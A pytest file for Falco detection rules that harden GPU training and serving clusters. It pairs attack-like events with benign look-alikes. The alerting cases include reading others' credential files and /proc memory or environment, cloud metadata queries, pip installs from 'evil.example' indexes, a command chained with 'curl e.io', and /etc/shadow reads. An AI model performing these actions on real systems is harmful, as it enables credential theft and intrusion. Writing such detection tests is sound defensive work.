# Copyright (c) 2026, the gpu_cluster.hardening authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks and honest work that look alike: for each kind that a rule once took wrongly, what it is told apart by."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.evaluation import fires

SPEC = importlib.util.spec_from_file_location("ml_rules_cases", Path(__file__).parent / "test_ml_rules.py")
assert SPEC and SPEC.loader
r: Any = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(r)

LOADER = {"exepath": "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"}
METADATA = ("169.254.169.254", "169.254.170.2", "fd00:ec2::254", "fd20:ce::254")
KEYS = (
    "/home/shared/alice/.ssh/id_ed25519", "/root/.ssh/id_rsa", "/mnt/nfs/bob/.kube/config",
    "/host/etc/kubernetes/admin.conf", "/etc/kubernetes/pki/ca.key", "/home/shared/alice/.aws/credentials",
    "/mnt/homes/bob/.docker/config.json", "/mnt/homes/bob/.git-credentials", "/mnt/homes/bob/.config/gcloud/adc.json",
    "/mnt/homes/bob/.azure/token.json", "/proc/7/root/root/.aws/credentials",
)  # fmt: skip
NEIGHBOURS = ("/proc/7/environ", "/proc/7/task/8/environ", "/proc/7/root/vault/secrets/db", "/proc/1/environ")
OWN = (
    "/home/shared/alice/.ssh/id_ed25519.pub", "/root/.ssh/known_hosts", "/root/.aws/credentials",
    "/home/jovyan/.aws/credentials", "/root/.docker/config.json", "/var/lib/airflow/home/.aws/credentials",
    "/etc/kubernetes/pki/ca.crt", "/proc/self/environ", "/proc/7/status", "/proc/7/root/usr/lib/x.so",
)  # fmt: skip
INDEX = "http://registry.internal/pypi/simple"
APPROVED_PACKAGES = [
    ("uv, offline", r.spawned("uv sync --frozen --offline --find-links /opt/wheels")),
    ("pip, no index", r.spawned("pip /usr/bin/pip install --no-index -f /opt/wheels x", exepath=r.PYTHON)),
    ("pip, index by option", r.spawned(f"python3 -m pip install -i {INDEX} x")),
    ("pip, long option", r.spawned(f"pip /usr/bin/pip install x --index-url={INDEX}", exepath=r.PYTHON)),
    ("pip, by environment", r.spawned("python3 -m pip install -r r.txt", proc_env_pip=INDEX)),
    ("uv, index by option", r.spawned(f"uv pip install --default-index {INDEX} x")),
    ("uv, by environment", r.spawned("uv pip install x", proc_env_uv=INDEX)),
    ("uv, by its newer name", r.spawned("python3 -m uv pip install x", proc_env_uv_default=INDEX)),
]
"""Packages that come from where the site said, in training."""
OTHER_PACKAGES = [
    ("no index said", r.spawned("python3 -m pip install x")),
    ("another index", r.spawned("python3 -m pip install -i https://pypi.org/simple x")),
    ("approved as user", r.spawned("python3 -m pip install -i https://registry.internal@evil.example/simple x")),
    ("a second index", r.spawned(f"python3 -m pip install -i {INDEX} --extra-index-url https://evil.example x")),
    ("a second by environment", r.spawned(f"python3 -m pip install -i {INDEX} x", proc_env_pip_extra="https://e.io")),
    ("a second of uv's", r.spawned(f"uv pip install --default-index {INDEX} x", proc_env_uv_extra="https://e.io")),
    (
        "uv's by its newer name",
        r.spawned(f"uv pip install --default-index {INDEX} x", proc_env_uv_index="https://e.io"),
    ),
    ("an approved file", r.spawned("python3 -m pip install http://registry.internal/x.whl")),
    ("a file beside an index", r.spawned("python3 -m pip install https://e.io/x.whl", proc_env_pip=INDEX)),
    ("offline, a file", r.spawned("uv pip install --offline https://e.io/x.whl")),
    ("environment elsewhere", r.spawned("python3 -m pip install x", proc_env_pip="https://registry.internal.e.io/")),
    ("both by environment", r.spawned("pip3 install x", proc_env_pip=INDEX, proc_env_pip_extra="https://e.io")),
    ("uv, environment of pip", r.spawned("uv pip install x", proc_env_pip=INDEX)),
    ("uv as a module, pip's", r.spawned("python3 -m uv pip install x", proc_env_pip=INDEX)),
    ("pip, environment of uv", r.spawned("python3 -m pip install x", proc_env_uv=INDEX)),
    ("uv, two", r.spawned("uv sync", proc_env_uv=INDEX, proc_env_uv_extra="https://e.io")),
    ("uv, two by the newer name", r.spawned("uv sync", proc_env_uv=INDEX, proc_env_uv_index="https://e.io")),
    ("conda", r.spawned("conda install --offline x")),
    ("serving", r.spawned("uv sync --offline", r.SERVER)),
    ("training that serves", r.spawned("uv sync --offline", k8s_ns_name="ml-serving")),
]
JIT = ("cicc --c++17 /tmp/x.ii", "fatbinary -64 /tmp/x.ptx", "cudafe++ --x /tmp/x.ii", "nvlink -arch=sm_90 /tmp/x.o",
       "hipcc -c /root/.cache/x.hip", "nvcc -c /root/.cache/x.cu")  # fmt: skip
NVCC = "/usr/local/cuda-12.4/bin/nvcc"
MPIRUN = "/opt/hpcx/ompi/bin/mpirun"
LAUNCHERS = ("mpirun", "mpiexec", "mpiexec.hydra", "prterun", "orted", "prted", "hydra_pmi_proxy")
BESIDE = {"image": r.OTHER, "k8s_ns_name": "ml-serving"}
STARTUP_FILE = {"image": r.OTHER, "mode": "w"}
KUBECTL = "/usr/local/bin/kubectl"
WHEEL_TOOL = "/tmp/pip-build-env-a1/overlay/lib/python3.11/site-packages/cmake/data/bin/cmake"
BELOW_PYTHONS_FOLDER = "/usr/local/lib/python3.12/dist-packages/triton/backends/nvidia/bin/ptxas"
OTHER_MPI = ("orted", "prted", "prterun", "mpirun", "mpiexec", "hydra_pmi_proxy")
HOME_LINKS = (
    "/root/.netrc", "/root/.git-credentials", "/root/.docker/config.json", "/root/.aws/credentials",
    "/root/.kube/config", "/root/.cache/huggingface/token", "/root/.ssh/id_ed25519",
)  # fmt: skip


def listening(port: int, image: str = r.TRAINER, **more: Any) -> Any:
    return r.in_container(image, evt_type="listen", fd_typechar="4", fd_sip="0.0.0.0", fd_sport=port, **more)


def asked_metadata(address: str, port: int = 80, image: str = r.TRAINER, **more: Any) -> Any:
    return r.connected(address, port, image, **more)


def linked(link: str, target: str, image: str = r.SERVER, **more: Any) -> Any:
    paths = {"fs_path_source": link, "fs_path_target": target, "evt_arg_target": target, "evt_arg_linkpath": link}
    return r.in_container(image, evt_type="symlinkat", proc_name="ln", **paths, **more)


FIRES = [
    # A program is where the image has none, whatever the volume is called.
    (r.TEMPORARY, "loader, volume", r.spawned("ld-linux-x86-64 /workspace/.lib/libgomp.so.1 -q", **LOADER)),
    (r.TEMPORARY, "loader, here", r.spawned("ld-linux-x86-64 ./x", **LOADER)),
    (r.TEMPORARY, "loader, with options", r.spawned("ld-linux-x86-64 --argv0 sshd /data/x", **LOADER)),
    (r.TEMPORARY, "loader, libraries elsewhere", r.spawned("ld-linux-x86-64 --library-path /data/l /data/x", **LOADER)),
    (r.TEMPORARY, "loader by its other name", r.spawned("ld.so /data/x", exepath="/usr/bin/ld.so")),
    (r.TEMPORARY, "pip's tool in training", r.spawned("cmake --build x", exepath=WHEEL_TOOL)),
    (r.TEMPORARY, "builder's name in training", r.spawned("x", exepath="/tmp/x", proc_aname_2="buildkitd")),
    # Below a folder of Python's is not Python.
    (r.SHARED_MEMORY, "Python of an environment", r.spawned("python x", proc_cwd="/dev/shm", exepath="/v/bin/python")),
    (r.CREDENTIALS, "not Python", r.opened("/secrets/registry/x", by="x", proc_exepath="/opt/python/x")),
    # The kubelet's keys and another's memory, by whatever program.
    (r.CREDENTIALS, "kubelet's key", r.opened("/host/var/lib/kubelet/pki/kubelet.key", image=r.OTHER, by="x")),
    (r.CREDENTIALS, "kubelet's, mounted as it is", r.opened("/var/lib/kubelet/pki/k.pem", by="python3")),
    (r.CREDENTIALS, "another's memory", r.opened("/proc/19/mem", by="python3")),
    (r.CREDENTIALS, "a thread's memory", r.opened("/proc/19/task/20/mem", image=r.OTHER, by="x")),
    (r.CREDENTIALS, "install", r.opened("/root/.netrc", by="install")),
    (r.GPU, "by number, elsewhere", r.opened("/hostchar/195:255", image=r.OTHER)),
    # A credential by another root, or under another name.
    (r.CREDENTIALS, "/var/run", r.opened("/var/run/secrets/registry/x")),
    (r.CREDENTIALS, "another's secret", r.opened("/proc/42/root/etc/app/secrets/key", by="reader")),
    *((r.CREDENTIALS, path, linked("/srv/static/n.txt", path)) for path in HOME_LINKS),
    (r.CREDENTIALS, "token", linked("/x", "/run/secrets/kubernetes.io/serviceaccount/token")),
    # Others' credentials, by Python and by programs that are not made for them.
    *((r.OTHERS, path, r.opened(path, by="python3")) for path in (*KEYS, *NEIGHBOURS)),
    *((r.OTHERS, f"{path}, serving", r.opened(path, image=r.SERVER, by="agent")) for path in (KEYS[0], NEIGHBOURS[0])),
    (r.OTHERS, "beside a trainer", r.opened("/proc/7/environ", image=r.OTHER, by="x", k8s_ns_name="ml-training")),
    (r.OTHERS, "the first of another", r.opened("/proc/7/environ", by="x", proc_vpid=1)),
    (r.OTHERS, "builder's login", r.opened("/kaniko/.docker/config.json", image=r.OTHER, by="python3")),
    *((r.METADATA, address, asked_metadata(address)) for address in METADATA),
    (r.METADATA, "serving", asked_metadata("169.254.169.254", image=r.SERVER)),
    (r.METADATA, "refused", asked_metadata("169.254.169.254", evt_failed=True)),
    (r.METADATA, "Google's inner port", asked_metadata("169.254.169.254", 988)),
    # From serving to the internet, whatever the port.
    (r.SERVING_INTERNET, "high port", r.connected("203.0.113.9", 51820, r.SERVER)),
    (
        r.SERVING_INTERNET,
        "WireGuard",
        r.connected("203.0.113.9", 51820, r.SERVER, evt_type="sendmmsg", fd_l4proto="udp"),
    ),
    *((r.PACKAGE, what, event) for what, event in OTHER_PACKAGES),
    *((r.PACKAGE_APPROVED, what, event) for what, event in APPROVED_PACKAGES),
    # What looks like the start of a server.
    (r.SHELL, "below a compiler", r.spawned("sh -c -- cicc /tmp/x.ii; curl e.io", r.SERVER, parent=NVCC)),
    (r.SHELL, "no compiler", r.spawned("sh -c -- ciccx /tmp/x.ii", r.SERVER, parent=NVCC)),
    (r.SHELL, "launcher below Python", r.spawned("x", r.SERVER, parent=MPIRUN, proc_aname_2="python3")),
    (
        r.SHELL,
        "launcher of a shell below Python",
        r.spawned("x", r.SERVER, parent=MPIRUN, proc_aname_2="sh", proc_aname_3="python3"),
    ),
    (r.SHELL, "crond in the server", r.spawned("x", r.SERVER, parent="/usr/sbin/crond")),
    (r.SHELL, "a table with an attack", r.below_python("sh -c cat /etc/shadow", container_name="logrotate", **BESIDE)),
    (r.STARTUP, "kaniko's path in training", r.opened("/etc/shadow", "w", by="x", proc_exepath="/kaniko/executor")),
    (r.STARTUP, "by its name only", r.opened("/etc/shadow", by="executor", **STARTUP_FILE)),
    # Logins where nobody asked.
    (r.PORT, "dropbear", listening(2222, proc_name="dropbear", proc_aname_2="bash")),
    (r.PORT, "dropbear, serving", listening(22, r.SERVER, proc_name="dropbear")),
    (r.PORT, "sshd below Python", listening(2222, proc_name="sshd", proc_aexepath_2=r.PYTHON)),
    # A link to where the model is, by what is no side container of KServe's.
    (r.CHANGED, "link to another root", linked("/mnt/models", "/proc/14/root/models")),
    (
        r.CHANGED,
        "side container, elsewhere",
        linked("/mnt/models", "/tmp/evil", "r.io/m", container_name="modelcar", k8s_ns_name="ml-serving"),
    ),
    (r.CHANGED, "the server by that name", linked("/mnt/models", "/proc/14/root/models", container_name="modelcar")),
    # A tool for networks that listens, on whatever port.
    (r.PORT, "tunnel", listening(8001, proc_name="chisel")),
    (r.PORT, "1024, no rank", listening(1024, proc_name="x")),
    (r.PORT, "other low port below MPI", listening(1023, proc_name="x", proc_aname_2="orted")),
    (r.PORT, "other port below MPI", listening(1280, proc_name="x", proc_aname_2="orted")),
    # Packages where nothing trains or serves are worth knowing.
    (r.PACKAGE_ELSEWHERE, "apk", r.spawned("apk add nmap", r.OTHER)),
    (r.PACKAGE_ELSEWHERE, "not known yet", r.spawned("apk add nmap", None)),
    (r.PACKAGE, "in a training namespace", {**r.spawned("apk add nmap", r.OTHER), "k8s.ns.name": "ml-training"}),
    (r.SHELL, "another's part", r.spawned("x", r.SERVER, parent="/usr/bin/launcher")),
]
SILENT = [
    (r.TEMPORARY, "ldd asks", r.spawned("ld-linux-x86-64 --verify /data/x", **LOADER)),
    (
        r.TEMPORARY,
        "ldd lists",
        {**r.spawned("ld-linux-x86-64 /data/x.so", **LOADER), "proc.env[LD_TRACE_LOADED_OBJECTS]": "1"},
    ),
    (r.TEMPORARY, "program of the image", r.spawned("ld-linux-x86-64 /usr/bin/x /data/y", **LOADER)),
    (r.TEMPORARY, "the loader's help", r.spawned("ld-linux-x86-64 --help", **LOADER)),
    (r.TEMPORARY, "pip's tool", r.spawned("cmake --build x", r.OTHER, exepath=WHEEL_TOOL)),
    (r.TEMPORARY, "image in the making", r.spawned("x", r.OTHER, exepath="/tmp/x", proc_aname_2="buildkitd")),
    (r.TEMPORARY, "compiler's files", r.spawned("ptxas /tmp/x.ptx", r.SERVER, exepath=BELOW_PYTHONS_FOLDER)),
    (r.CREDENTIALS, "kubelet's other files", r.opened("/var/lib/kubelet/config.yaml", by="x")),
    (r.CREDENTIALS, "operator", r.opened("/var/lib/kubelet/pki/x", image="nvcr.io/nvidia/gpu-operator", by="x")),
    (r.CREDENTIALS, "own memory", r.opened("/proc/self/mem", by="x")),
    (r.CREDENTIALS, "what it knows of memory", r.opened("/proc/19/meminfo", by="x")),
    (r.CREDENTIALS, "debugger", r.opened("/proc/19/mem", by="gdb")),
    (
        r.CREDENTIALS,
        "CNI installs itself",
        r.opened(
            "/var/run/secrets/kubernetes.io/serviceaccount/token", by="install", proc_exepath="/opt/cni/bin/install"
        ),
    ),
    *((r.OTHERS, path, r.opened(path, by="python3")) for path in OWN),
    *((r.OTHERS, f"{path}, elsewhere", r.opened(path, image=r.OTHER, by="python3")) for path in (*KEYS, *NEIGHBOURS)),
    *((r.OTHERS, name, r.opened(KEYS[0], by=name)) for name in ("ssh", "sshd", "git", "ssh-add")),
    (r.OTHERS, "kubectl", r.opened("/root/.kube/config", by="kubectl", proc_exepath=KUBECTL)),
    (r.OTHERS, "own environment", r.opened("/proc/1/environ", by="python3", proc_vpid=1)),
    *((r.OTHERS, name, r.opened("/proc/7/environ", by=name)) for name in ("gdb", "ps", "systemd-detect-virt")),
    (r.OTHERS, "missing", r.opened(KEYS[0], by="python3", evt_failed=True)),
    (r.OTHERS, "runtime", r.opened("/proc/7/environ", by="runc")),
    (r.OTHERS, "builder", r.opened("/kaniko/.docker/config.json", image=r.OTHER, by="x", proc_exepath="/kaniko/x")),
    (r.METADATA, "DNS of the cloud", asked_metadata("169.254.169.254", 53)),
    (r.METADATA, "time of the cloud", asked_metadata("169.254.169.254", 123)),
    (r.METADATA, "node's DNS", asked_metadata("169.254.20.10")),
    (r.METADATA, "elsewhere", asked_metadata("169.254.169.254", image=r.OTHER)),
    (r.METADATA, "own address", asked_metadata("169.254.169.254", fd_l4proto="udp")),
    (r.HIGH_PORT, "serving", r.connected("203.0.113.9", 51820, r.SERVER)),
    (r.HIGH_PORT, "both", r.connected("203.0.113.9", 51820, k8s_ns_name="ml-serving")),
    (r.SERVING_INTERNET, "high port inside", r.connected("10.0.0.9", 51820, r.SERVER)),
    (r.INTERNET, "Ray with public addresses", r.connected("203.0.113.9", 40001)),
    *((r.PACKAGE, what, event) for what, event in APPROVED_PACKAGES),
    *((r.PACKAGE_APPROVED, what, event) for what, event in OTHER_PACKAGES),
    (r.PACKAGE_APPROVED, "asks", r.spawned("uv pip list --offline")),
    (r.PACKAGE_APPROVED, "did not start", r.spawned("uv sync --offline", evt_failed=True)),
    *((r.SHELL, command, r.spawned(f"sh -c -- {command}", r.SERVER, parent=NVCC)) for command in JIT),
    (r.SHELL, "hipcc", r.spawned("hipcc -c x.hip", r.SERVER, r.PYTHON, parent="/usr/bin/ninja")),
    *(
        (r.SHELL, f"rank of {name}", r.spawned("serve.sh", r.SERVER, parent=f"/usr/bin/{name}", proc_aname_2="tini"))
        for name in LAUNCHERS
    ),
    (
        r.SHELL,
        "rank below a script",
        r.spawned("serve.sh", r.SERVER, parent=MPIRUN, proc_aname_2="bash", proc_aname_3="containerd-shim"),
    ),
    *(
        (r.SHELL, f"below {name}", r.spawned("gzip", parent=f"/usr/sbin/{name}", **BESIDE))
        for name in ("crond", "cron", "logrotate")
    ),
    *(
        (r.SHELL, name, r.spawned("x", parent="/bin/y", container_name=name, **BESIDE))
        for name in ("logrotate", "fluent-bit", "fluentd", "filebeat", "promtail", "vector", "config-reloader")
    ),
    (r.STARTUP, "kaniko", r.opened("/etc/shadow", by="x", proc_exepath="/kaniko/executor", **STARTUP_FILE)),
    (r.STARTUP, "step of a build", r.opened("/etc/shadow", by="useradd", proc_aname_2="executor", **STARTUP_FILE)),
    (r.TEMPORARY, "kaniko", r.spawned("x", r.OTHER, exepath="/kaniko/executor", proc_is_exe_upper_layer=True)),
    (r.PORT, "MPI's worker", listening(2222, proc_name="sshd", proc_aname_2="containerd-shim")),
    (r.GPU, "another device by number", r.opened("/hostchar/1:3", image=r.OTHER)),
    (r.CREDENTIALS, "own root", r.opened("/proc/42/root/etc/nginx/nginx.conf")),
    (r.CREDENTIALS, "own secret", r.opened("/etc/app/secrets/key", by="reader")),
    *((r.CREDENTIALS, path, linked(path, f"/volume{path}")) for path in HOME_LINKS),
    (r.CREDENTIALS, "link to a folder", linked("/root/.cache", "/volume/.cache")),
    (
        r.CHANGED,
        "model in an image",
        linked("/mnt/models", "/proc/14/root/models", "r.io/m", container_name="modelcar", k8s_ns_name="ml-serving"),
    ),
    *((r.PORT, f"rank below {name}", listening(1025, proc_name="x", proc_aname_2=name)) for name in OTHER_MPI),
    (r.PORT, "server", listening(8001, proc_name="x")),
    (r.PORT, "tool that failed", {**listening(8001, proc_name="chisel"), "evt.failed": True}),
    (r.PACKAGE, "notebook", r.spawned("pip install x", r.OTHER, r.PYTHON)),
    (r.PACKAGE_ELSEWHERE, "training", r.spawned("apk add nmap")),
    (r.PACKAGE_ELSEWHERE, "serving", r.spawned("apk add nmap", r.SERVER)),
    (r.PACKAGE_ELSEWHERE, "asks", r.spawned("apk list", r.OTHER)),
    (r.SHELL, "JVM starts a worker", r.spawned("jspawnhelper 4:5", r.SERVER, parent="/usr/lib/jvm/bin/java")),
    (
        r.SHELL,
        "part of the server",
        r.spawned("text-generation serve", r.SERVER, parent="/usr/bin/text-generation-launcher"),
    ),
    (r.SHELL, "below a script of busybox", r.spawned("envsubst", r.SERVER, parent="/bin/busybox", proc_pname="e.sh")),
]


@pytest.mark.parametrize(("rule", "event"), r.cases(FIRES))
def test_the_attack_is_seen(rule: str, event: Any) -> None:
    assert fires(r.RULE_SET, rule, event)


@pytest.mark.parametrize(("rule", "event"), r.cases(SILENT))
def test_honest_work_of_that_look_is_left_alone(rule: str, event: Any) -> None:
    assert not fires(r.RULE_SET, rule, event)
